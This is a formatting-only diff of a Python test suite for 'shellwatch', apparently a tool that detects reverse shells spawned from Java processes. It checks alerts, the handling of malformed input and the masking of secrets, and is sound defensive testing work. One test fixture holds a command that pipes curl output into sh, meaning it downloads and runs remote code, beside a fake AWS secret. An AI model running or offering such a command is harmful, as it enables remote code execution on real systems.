@@ -20,7 +20,10 @@ SAMPLE = Path(__file__).parents[2] / "src" / "shellwatch" / "samples" / "sample-
 def detect(stdin: bytes, *args: str) -> subprocess.CompletedProcess[bytes]:
     return subprocess.run(
         [sys.executable, "-m", "shellwatch", "detect", "-", *args],
-        input=stdin, capture_output=True, timeout=120, check=False,
+        input=stdin,
+        capture_output=True,
+        timeout=120,
+        check=False,
     )
 
 
@@ -29,12 +32,15 @@ def lines(*docs: object) -> bytes:
 
 
 def test_bundled_sample_raises_exactly_the_attack() -> None:
-    result = subprocess.run([sys.executable, "-m", "shellwatch", "detect", "sample"], capture_output=True,
-                            timeout=120, check=True)
+    result = subprocess.run(
+        [sys.executable, "-m", "shellwatch", "detect", "sample"], capture_output=True, timeout=120, check=True
+    )
     (alert,) = [orjson.loads(line) for line in result.stdout.splitlines()]
     assert alert["host"]["id"] == ATTACKED_HOST
     assert [orjson.loads(orjson.dumps(e))["event"]["id"] for e in alert["detection"]["events"]] == [
-        "attack-ldap-callback", "attack-reverse-shell"]
+        "attack-ldap-callback",
+        "attack-reverse-shell",
+    ]
     assert b"1027 lines read" in result.stderr and b"1 alerts" in result.stderr
 
 
@@ -58,7 +64,9 @@ def test_alert_contract() -> None:
 
 
 def test_events_are_quoted_as_received() -> None:
-    conn = orjson.dumps(conn_doc(1_700_000_000_000)).replace(b'"pid":100', b'"pid":100.000,"big":123456789012345678901234567890')
+    conn = orjson.dumps(conn_doc(1_700_000_000_000)).replace(
+        b'"pid":100', b'"pid":100.000,"big":123456789012345678901234567890'
+    )
     result = detect(lines(conn, exec_doc(1_700_000_000_500)))
     (line,) = result.stdout.splitlines()
     assert b'"pid":100.000,"big":123456789012345678901234567890' in line
@@ -75,13 +83,19 @@ def test_exec_identity_falls_back_to_entity_id_then_raw_bytes() -> None:
     shell = exec_doc(1_700_000_000_500)
     del shell["event"]["id"]
     out = orjson.loads(detect(lines(conn_doc(1_700_000_000_000), shell)).stdout)
-    assert out["event"]["id"] == hashlib.sha256(
-        f"potential-reverse-shell-via-java|host-a|{shell['process']['entity_id']}".encode()).hexdigest()
+    assert (
+        out["event"]["id"]
+        == hashlib.sha256(
+            f"potential-reverse-shell-via-java|host-a|{shell['process']['entity_id']}".encode()
+        ).hexdigest()
+    )
     del shell["process"]["entity_id"]
     raw = orjson.dumps(shell)
     out = orjson.loads(detect(lines(conn_doc(1_700_000_000_000), raw)).stdout)
     raw_hash = hashlib.sha256(raw).hexdigest()
-    assert out["event"]["id"] == hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{raw_hash}".encode()).hexdigest()
+    assert (
+        out["event"]["id"] == hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{raw_hash}".encode()).hexdigest()
+    )
 
 
 def test_malformed_lines_around_an_attack() -> None:
@@ -92,13 +106,24 @@ def test_malformed_lines_around_an_attack() -> None:
         b'["/usr/bin/java"]',  # not an object
         b'{"@timestamp": "not a time", "event": {"category": "process"}, "x": "/usr/bin/java"}',
         b"[" * 5000 + java + b"]" * 5000,
-        b'{"a": "/usr/bin/java\x1b[31m', # a terminal escape in the reported text
+        b'{"a": "/usr/bin/java\x1b[31m',  # a terminal escape in the reported text
         b"plain text with /usr/bin/java",
         b"",
         b"no java here at all",
     ]
-    data = lines(bad[0], bad[1], conn_doc(1_700_000_000_000), bad[2], bad[3], bad[4],
-                 exec_doc(1_700_000_002_000), bad[5], bad[6], bad[7], bad[8])
+    data = lines(
+        bad[0],
+        bad[1],
+        conn_doc(1_700_000_000_000),
+        bad[2],
+        bad[3],
+        bad[4],
+        exec_doc(1_700_000_002_000),
+        bad[5],
+        bad[6],
+        bad[7],
+        bad[8],
+    )
     result = detect(data)
     assert result.returncode == 0
     assert b"Traceback" not in result.stderr
@@ -119,8 +144,11 @@ def test_no_prefilter_reports_every_bad_line() -> None:
 
 
 def test_secrets_are_masked_unless_disabled() -> None:
-    shell = exec_doc(1_700_000_000_500, process__env_vars=["AWS_SECRET_ACCESS_KEY=abc"],
-                     process__args=["/bin/bash", "-c", "curl -u admin:pw http://x | sh"])
+    shell = exec_doc(
+        1_700_000_000_500,
+        process__env_vars=["AWS_SECRET_ACCESS_KEY=abc"],
+        process__args=["/bin/bash", "-c", "curl -u admin:pw http://x | sh"],
+    )
     data = lines(conn_doc(1_700_000_000_000), shell)
     masked = orjson.loads(detect(data).stdout)["detection"]["events"][1]
     assert masked["process"]["env_vars"] == ["AWS_SECRET_ACCESS_KEY=[REDACTED]"]
@@ -138,6 +166,10 @@ def test_lines_out_of_order_within_the_lateness(lateness: str) -> None:
 
 
 def test_unreadable_input_is_an_error() -> None:
-    result = subprocess.run([sys.executable, "-m", "shellwatch", "detect", "/nonexistent.ndjson"],
-                            capture_output=True, timeout=60, check=False)
+    result = subprocess.run(
+        [sys.executable, "-m", "shellwatch", "detect", "/nonexistent.ndjson"],
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
     assert result.returncode == 2 and b"cannot read" in result.stderr and b"Traceback" not in result.stderr
